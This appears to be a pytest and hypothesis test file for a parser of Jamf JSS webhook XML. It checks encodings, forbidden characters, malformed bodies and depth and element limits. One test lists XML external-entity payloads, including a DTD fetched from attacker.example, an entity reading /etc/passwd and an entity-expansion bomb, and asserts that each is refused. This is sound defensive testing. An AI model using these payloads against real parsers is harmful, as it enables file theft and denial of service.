"""Jamf's XML deliveries, and XML that is an attack."""

from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.errors import MalformedEvent
from domain.xml_body import (
    LATIN1,
    MAX_DEPTH,
    MAX_NODES,
    MAX_REPLACED,
    REPLACED,
    may_be_flagged,
    parse_jss_event,
    render,
)

DEVICE_ADDED = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<JSSEvent>
  <webhook><id>1</id><name/><webhookEvent>ComputerAdded</webhookEvent></webhook>
  <event>
    <deviceName>Zo\xc3\xab &amp; co &lt;3</deviceName>
    <eventActions><action>login</action><action>startup</action></eventActions>
    <groupAddedDevicesIds>7</groupAddedDevicesIds>
    <room></room>
  </event>
</JSSEvent>"""


def jss_event(event: str) -> str:
    return f"<JSSEvent><webhook><id>1</id></webhook><event>{event}</event></JSSEvent>"


def name_of(body: bytes, charset: str | None = None) -> tuple[str, tuple[str, ...]]:
    parsed = parse_jss_event(body, charset)
    return parsed.document["event"]["name"], parsed.flags


def test_elements_become_the_object_that_the_json_form_gives():
    parsed = parse_jss_event(DEVICE_ADDED)

    assert parsed.flags == ()
    assert parsed.document == {
        "webhook": {"id": "1", "name": "", "webhookEvent": "ComputerAdded"},
        "event": {
            "deviceName": "Zoë & co <3",
            "eventActions": {"action": ["login", "startup"]},
            "groupAddedDevicesIds": "7",
            "room": "",
        },
    }


@pytest.mark.parametrize("event", ["<event/>", "<event></event>", ""])
def test_an_event_that_is_missing_or_empty_is_an_empty_object(event):
    body = f"<JSSEvent><webhook><id>1</id></webhook>{event}</JSSEvent>".encode()

    assert parse_jss_event(body).document == {"webhook": {"id": "1"}, "event": {}}


def test_attributes_comments_and_namespaces_are_left_out():
    body = b"""<j:JSSEvent xmlns:j="urn:j"><!-- one --><webhook a="b"><id>1<!-- two -->2</id></webhook>
    <event><x><![CDATA[<b>]]></x></event><?pi pi?></j:JSSEvent>"""

    assert parse_jss_event(body).document == {"webhook": {"id": "12"}, "event": {"x": "<b>"}}


@pytest.mark.parametrize(
    ("prolog", "codec", "charset", "flags"),
    [
        ("", "utf-8", None, ()),
        ("", "utf-8-sig", "iso-8859-1", ()),
        ("", "utf-16", None, ()),
        ('<?xml version="1.0" encoding="ISO-8859-1"?>', "iso-8859-1", "utf-8", ()),
        ("<?xml version='1.0' encoding='windows-1252'?>", "cp1252", None, ()),
        ("", "iso-8859-1", "ISO-8859-1", ()),
        ("", "iso-8859-1", None, (LATIN1,)),
        ('<?xml version="1.0" encoding="UTF-8"?>', "iso-8859-1", None, (LATIN1,)),
        ('<?xml version="1.0" encoding="punycode"?>', "utf-8", "zlib", ()),
    ],
)
def test_the_encoding_is_told_by_bom_prolog_charset_or_the_bytes(prolog, codec, charset, flags):
    body = (prolog + jss_event("<name>Zoë</name>")).encode(codec)

    assert name_of(body, charset) == ("Zoë", flags)


@pytest.mark.parametrize("space", ["\n", " \t\r\n", "\r\n\r\n"])
@pytest.mark.parametrize(
    ("prolog", "encoding"),
    [("", "utf-8"), ('<?xml version="1.0" encoding="UTF-8"?>', "utf-8"), ("<?xml version='1.0'?>", "utf-16")],
)
def test_white_space_may_come_before_a_document_and_before_or_after_a_bom(space, prolog, encoding):
    text = prolog + jss_event("<name>Zoë</name>")
    bodies = [(space + text).encode(encoding), (space + "\ufeff" + text).encode(encoding)]
    if encoding == "utf-8":
        bodies.append(("\ufeff" + space + text).encode())

    assert [name_of(body) for body in bodies] == [("Zoë", ())] * len(bodies)


def test_white_space_does_not_hide_the_encoding_that_a_prolog_names():
    body = b'\n<?xml version="1.0" encoding="ISO-8859-1"?>' + jss_event("<name>Zoë</name>").encode("latin-1")

    assert name_of(body) == ("Zoë", ())


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("Mac\x01", "Mac\ufffd"),
        ("Mac&#x1;", "Mac\ufffd"),
        ("Mac&#1;", "Mac\ufffd"),
        ("Mac&#x0;\x00", "Mac\ufffd\ufffd"),
        ("\x0b&#31;&#9;&lt;&#60;", "\ufffd\ufffd\t<<"),
        ("\uffff&#xFFFE;", "\ufffd\ufffd"),
        ("Mac &#55357;&#56832;", "Mac \U0001f600"),
        ("Mac &#xD83D;a&#xDE00;", "Mac \ufffda\ufffd"),
        ("&#x110000;&#999999999999;", "\ufffd\ufffd"),
    ],
)
def test_characters_that_xml_forbids_are_replaced_and_flagged(written, read):
    body = jss_event(f"<name>{written}</name>").encode()

    assert name_of(body) == (read, (REPLACED,))
    assert may_be_flagged(body)


def test_references_that_xml_allows_are_neither_replaced_nor_flagged():
    assert name_of(jss_event("<name>a&#13;&#xE9;&#128512;</name>").encode()) == ("a\ré\U0001f600", ())


@pytest.mark.parametrize("forbidden", ["\x01", "&#x1;"])
def test_characters_are_replaced_up_to_a_limit(forbidden):
    read, flags = name_of(jss_event(f"<name>{forbidden * MAX_REPLACED}</name>").encode())
    assert (len(read), flags) == (MAX_REPLACED, (REPLACED,))

    with pytest.raises(MalformedEvent):
        parse_jss_event(jss_event(forbidden * (MAX_REPLACED + 1)).encode())


def test_what_is_replaced_cannot_become_a_dtd_or_pass_a_limit():
    for forbidden in ("\x01", "&#x1;"):
        dtd = f"<!DOCTYPE a [<!ENTITY b 'c'>]>{jss_event(forbidden)}"
        deep = jss_event("<a>" * MAX_DEPTH + forbidden + "</a>" * MAX_DEPTH)
        for body in (dtd, deep):
            with pytest.raises(MalformedEvent, match=r"DTD|levels"):
                parse_jss_event(body.encode())


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b" \n",
        b"{}",
        b"text",
        b"\xff\xfe",
        b"<JSSEvent>",
        b"<JSSEvent/>",
        b"<JSSEvent><event/></JSSEvent>",
        b"<JSSEvent><webhook/><event/></JSSEvent>",
        b"<JSSEvent><webhook><id>1</id></webhook><webhook><id>2</id></webhook></JSSEvent>",
        b"<plist><webhook><id>1</id></webhook></plist>",
        jss_event("<a>&nosuch;</a>").encode(),
        jss_event("<a>&#x1;</b>").encode(),
        jss_event("<a>&#x1</a>").encode(),
        jss_event("<a>&#0000000000001;</a>").encode(),
        jss_event("<a><b></a></b>").encode(),
        DEVICE_ADDED + DEVICE_ADDED,
        DEVICE_ADDED[:-5],
    ],
)
def test_what_is_no_jss_event_is_malformed(body):
    with pytest.raises(MalformedEvent):
        parse_jss_event(body)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE JSSEvent SYSTEM "http://attacker.example/x.dtd">',
        "<!DOCTYPE JSSEvent>",
        '<!DOCTYPE JSSEvent [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE JSSEvent [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE JSSEvent [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_dtd_is_refused_whatever_it_holds(doctype, codec):
    body = (doctype + jss_event("<name>x</name>")).encode(codec)

    with pytest.raises(MalformedEvent, match="DTD"):
        parse_jss_event(body)


def test_depth_is_allowed_up_to_the_limit():
    inner = MAX_DEPTH - 2
    assert parse_jss_event(jss_event("<a>" * inner + "</a>" * inner).encode())

    for levels in (inner + 1, 500_000):
        with pytest.raises(MalformedEvent, match="levels"):
            parse_jss_event(jss_event("<a>" * levels + "</a>" * levels).encode())


def test_the_number_of_elements_is_limited_while_parsing():
    with pytest.raises(MalformedEvent, match="elements"):
        parse_jss_event(jss_event("<a/>" * MAX_NODES).encode())


def test_what_is_rendered_parses_to_the_same():
    document = parse_jss_event(DEVICE_ADDED).document
    document["event"]["odd"] = ["a\r\nb", "<&>\"'", {"x": ["1", "2"]}]

    assert parse_jss_event(render(document)).document == document


def test_json_values_are_rendered_as_jamf_writes_them():
    document = {"webhook": {"id": 1, "on": True, "none": None}, "event": {"ids": [], "bad": "\x00\ud800"}}

    assert parse_jss_event(render(document)).document == {
        "webhook": {"id": "1", "on": "true", "none": ""},
        "event": {} | {"bad": "\ufffd\ufffd"},
    }


PARTS = [
    "<JSSEvent>",
    "</JSSEvent>",
    "<webhook>",
    "</webhook>",
    "<a>",
    "</a>",
    "<a/>",
    "x",
    "&#0;",
    "&amp;",
    "<![CDATA[",
]
PARTS += [
    "]]>",
    "<!--",
    "-->",
    "<!DOCTYPE a>",
    '<?xml version="1.0"?>',
    "<x:a>",
    '<a xmlns="b" b="c">',
    "\ud7ff",
    "\x01",
]


def must_parse_or_be_malformed(*arguments):
    """Anything but a MalformedEvent comes out of here and fails the test."""
    with suppress(MalformedEvent):
        parse_jss_event(*arguments)


@given(st.lists(st.sampled_from(PARTS), max_size=12), st.sampled_from(["utf-8", "utf-16"]), st.text(max_size=8))
def test_no_arrangement_of_xml_raises_anything_else(parts, codec, charset):
    must_parse_or_be_malformed("".join(parts).encode(codec), charset)


@given(st.binary(max_size=200), st.sampled_from([b"", b"<", b"<JSSEvent>", b"<?xml ", b"\xfe\xff"]))
def test_no_bytes_at_all_raise_anything_else(body, head):
    must_parse_or_be_malformed(head + body)
